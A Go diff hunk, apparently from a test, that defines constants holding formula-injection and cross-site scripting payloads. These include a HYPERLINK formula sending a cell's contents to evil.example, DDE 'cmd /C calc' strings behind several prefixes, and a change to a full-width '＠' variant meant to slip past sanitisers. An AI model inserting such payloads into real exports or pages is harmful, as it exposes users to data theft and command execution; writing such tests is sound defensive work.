@@ -27,7 +27,7 @@ type shelf struct {
 const (
 	evilMerchant = `=HYPERLINK("http://evil.example/?"&A1,"Shop") <script>alert(1)</script>`
 	evilStore    = `+cmd|' /C calc'!A0 <img src=x onerror=alert(2)>`
-	evilAccount  = `@SUM(1+1)*cmd|' /C calc'!A0`
+	evilAccount  = `＠SUM(1+1)*cmd|' /C calc'!A0` // full-width, which some take too
 	evilCause    = "-2+3+cmd|' /C calc'!A0"
 	evilReason   = "\t=1+1"
 )
